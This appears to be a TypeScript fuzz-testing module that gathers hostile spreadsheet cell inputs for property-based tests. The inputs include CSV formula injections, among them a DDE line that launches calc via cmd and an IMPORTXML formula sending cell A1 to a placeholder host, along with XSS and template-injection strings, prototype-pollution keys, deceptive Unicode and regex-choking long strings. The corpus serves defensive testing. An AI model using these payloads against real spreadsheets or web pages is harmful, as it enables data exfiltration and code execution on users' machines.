/** Texts that people, other programs and ill will put into cells: a corpus, and what grows from it. */
import fc from 'fast-check';

const PANJANG_SEL = 50_000;
const ulang = (bagian: string): string => bagian.repeat(Math.ceil(PANJANG_SEL / bagian.length)).slice(0, PANJANG_SEL);

/** Starts of formulas in spreadsheets and in CSV. */
export const AWAL_RUMUS = [
  '=1+1', '=IMPORTXML("https://contoh.invalid/?"&A1;"//a")', '=HYPERLINK("https://contoh.invalid";"klik")', '+1', '-1', '-2+3', '@SUM(1)',
  '\t=1+1', '\r=1+1', ' =1+1', '＝1+1', "'=1+1", "''=1", '=', '{=1}', '=cmd|\' /C calc\'!A0', '=A1:A', '#REF!', '#N/A', '#DIV/0!',
] as const;

/** What a browser, an XML reader or a template would take for its own. */
export const MARKUP = [
  '<script>alert(1)</script>', '<img src=x onerror=alert(1)>', '</textarea><svg/onload=alert(1)>', '<?= data ?>', '<?!= data ?>', '{{7*7}}',
  '${7*7}', '&lt;b&gt;', '&amp;amp;', '&#x110000;', ']]>', '<!--', '<![CDATA[', '<v>1</v>', '</t></si>', '_x000D_', '_x005F_x0041_', '"><a href="javascript:x">',
  'javascript:alert(1)', '%00', '\\u0000', '$&', '$1', "$'", '%s%n',
] as const;

/** What is not what it looks like: bidi controls, zero width, look-alikes, wide digits, combining marks, lone surrogates. */
export const TAK_TAMPAK = [
  '\u202e1/2/5202', '\u2066Budi\u2069', '\u200b', '198501\u200b012010011001', '\ufeffSesi', 'Реmbimbingan', 'Реndаmpingаn', 'Νasional', '１９８５０１０１２０１００１１００１',
  '٣/٢/٢٠٢٥', '³ Februari ²⁰²⁵', 'e\u0301'.repeat(40), 'Z\u0351\u036b\u0343', '\ud800', 'a\udfff', '\ud83d\ude00', '👨‍👩‍👧‍👦', '\u0000', 'a\u0000b', '\u0007', '\u001b[31m',
  '\u2028', '\u00a0', '\u3000', 'ﷺ', 'İstanbul', 'ẞ', 'ﬁnal', '\u00ad', '\ufffe', '\uffff', '\u0085',
] as const;

/** Names that mean something to a program. */
export const KATA_PROGRAM = [
  '__proto__', 'constructor', 'prototype', 'toString', 'valueOf', 'hasOwnProperty', 'null', 'nan', 'Infinity', '-Infinity', 'true', 'FALSE', 'BENAR',
  'length', 'then', '1e309', '1e5', '0x1F', '1_000', '1.000,5', '-0', '01', '007', '1,5', '½', '१२',
] as const;

/** As long as a cell can be, of signs that make careless patterns run wild. */
export const PANJANG = [
  ulang('a'), ulang('('), ulang(' '), ulang(', '), ulang('1'), ulang('1/'), ulang('- '), ulang('.'), ulang("'"), ulang('nip '), ulang('jam 1'), ulang('3 Feb 2025 '),
  ulang('\u200b'), ulang('Реm'), ulang('😀'), ulang('\u0301'), ulang('pembimbingan/'), ulang('a, '), ulang('1:1 '), ulang('"'), ulang('=('), ulang('ﷺ'), ulang('Dr. '),
  ulang(', S.Pd'), `3 Februari 2025${' '.repeat(49_000)}`, `3 Februari 2025${',('.repeat(20_000)}`, `${'\u00a0'.repeat(49_000)}x`,
] as const;

/** The corpus without its longest texts. */
export const TEKS_JAHAT: readonly string[] = [...AWAL_RUMUS, ...MARKUP, ...TAK_TAMPAK, ...KATA_PROGRAM];

const satuanApaPun = fc.oneof(
  { weight: 4, arbitrary: fc.string({ unit: 'grapheme', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.string({ unit: 'binary', maxLength: 30 }) },
  { weight: 2, arbitrary: fc.array(fc.integer({ min: 0, max: 0xffff }), { maxLength: 20 }).map((kode) => String.fromCharCode(...kode)) },
);

/** Any text, mostly short; one in some hundreds is as long as a cell. */
export const teksApaPun: fc.Arbitrary<string> = fc.oneof(
  { weight: 120, arbitrary: fc.constantFrom(...TEKS_JAHAT) },
  { weight: 80, arbitrary: satuanApaPun },
  { weight: 40, arbitrary: fc.tuple(fc.constantFrom(...TEKS_JAHAT), satuanApaPun).map(([a, b]) => a + b) },
  { weight: 1, arbitrary: fc.constantFrom(...PANJANG) },
);

/** A known word, spoilt: letters dropped, doubled, swapped, wrapped in something, given odd spaces. */
export const rusakkan = (kata: fc.Arbitrary<string>): fc.Arbitrary<string> =>
  fc.tuple(kata, fc.nat(60), fc.constantFrom('', '\u200b', ' ', '  ', '.', '/', '-', '\u00a0', 'x', "'", '=', '<b>', '\n'), fc.nat(4)).map(([isi, di, sisip, cara]) => {
    const tempat = di % (isi.length + 1);
    const awal = isi.slice(0, tempat);
    switch (cara) {
      case 0: return isi;
      case 1: return awal + sisip + isi.slice(tempat);
      case 2: return awal + isi.slice(tempat + 1);
      case 3: return sisip + isi.toUpperCase() + sisip;
      default: return awal + isi.slice(tempat + 1, tempat + 2) + isi.slice(tempat, tempat + 1) + isi.slice(tempat + 2);
    }
  });
